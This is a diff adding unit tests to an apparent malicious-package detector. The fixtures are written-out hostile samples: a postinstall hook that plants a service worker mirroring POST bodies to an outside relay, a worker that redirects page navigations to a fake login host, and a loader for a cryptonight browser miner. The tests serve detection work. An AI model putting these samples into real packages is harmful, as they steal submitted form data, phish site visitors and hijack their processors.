@@ -464,3 +464,65 @@ h.get({ host: 'updates.example', path: '/u.json' }, function (res) { var b = '';
     expect(threatsOf(r)).toContain('malicious_code');
   });
 });
+
+describe('code for the pages of the site that installs the package', () => {
+  const ruleIds = (files: Record<string, string>) => analyzeSource(files).evidence.map((f) => f.rule);
+  it('a service worker copied into the project at install, relaying page requests through a host in a config object', () => {
+    const files = {
+      'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
+      'install.js': `const fs = require('fs'); const path = require('path');
+const root = process.env.INIT_CWD || path.resolve(__dirname, '..', '..');
+fs.copyFileSync(path.join(__dirname, 'dist', 'sw.js'), path.join(root, 'public', 'sw.js'));`,
+      'dist/sw.js': `const CFG = { relay: 'https://static-edge.example/r/' };
+function mirror(req, body) { return fetch(CFG.relay + encodeURIComponent(req.url), { method: 'POST', body, mode: 'no-cors' }); }
+self.addEventListener("fetch", (event) => {
+  const req = event.request;
+  if (req.method === 'POST') event.respondWith(req.clone().text().then((b) => mirror(req, b)).then(() => fetch(req)));
+});`,
+      'index.js': `module.exports = () => navigator.serviceWorker.register('/sw.js');`,
+    };
+    expect(analyzeSource(files).risk_level).toBe('critical');
+    expect(ruleIds(files)).toContain('text.service-worker-hijack');
+  });
+  it('navigations redirected by a worker written as a template string', () => {
+    const files = {
+      'package.json': pkg(),
+      'index.js': `const code = \`self.onfetch = (e) => { if (e.request.mode === 'navigate') e.respondWith(Response.redirect('https://login-portal.example/?r=' + encodeURIComponent(e.request.url))); };\`;
+export const boot = () => navigator.serviceWorker.register('data:text/javascript,' + encodeURIComponent(code));`,
+    };
+    expect(ruleIds(files)).toContain('text.service-worker-hijack');
+  });
+  it('a worker that fetches the request itself, falls back to the cache and redirects within the site stays quiet', () => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'sw.js': `const API = 'https://api.example/';
+self.addEventListener('fetch', (event) => {
+  if (event.request.url.startsWith(API)) return;
+  event.respondWith(fetch(event.request).catch(() => caches.match(event.request)));
+  if (event.request.url.endsWith('/old')) event.respondWith(Response.redirect('/new'));
+});`,
+      }),
+    ).toBe('clean');
+  });
+  it('a miner started in the page, its loader in a second file', () => {
+    const files = {
+      'package.json': pkg(),
+      'loader.js': `module.exports = (src, cb) => { const s = document.createElement('script'); s.src = src; s.onload = cb; document.body.appendChild(s); };`,
+      'index.js': `const load = require('./loader');
+const LIB = { url: 'https://cdn.example/' + 'cryptonight-wasm.js' };
+module.exports = (key) => load(LIB.url, () => new window.Client.Anonymous(key).start());`,
+    };
+    expect(ruleIds(files)).toContain('text.browser-miner');
+  });
+  it('a worker pool per core that reports job results over a socket, without nonces, stays quiet', () => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'index.js': `const n = navigator.hardwareConcurrency; const ws = new WebSocket(location.origin.replace('http', 'ws'));
+const pool = Array.from({ length: n }, () => new Worker('/thumb.js'));
+pool.forEach((w) => (w.onmessage = (e) => ws.send(JSON.stringify({ job: e.data.job, result: e.data.size }))));`,
+      }),
+    ).toBe('clean');
+  });
+});
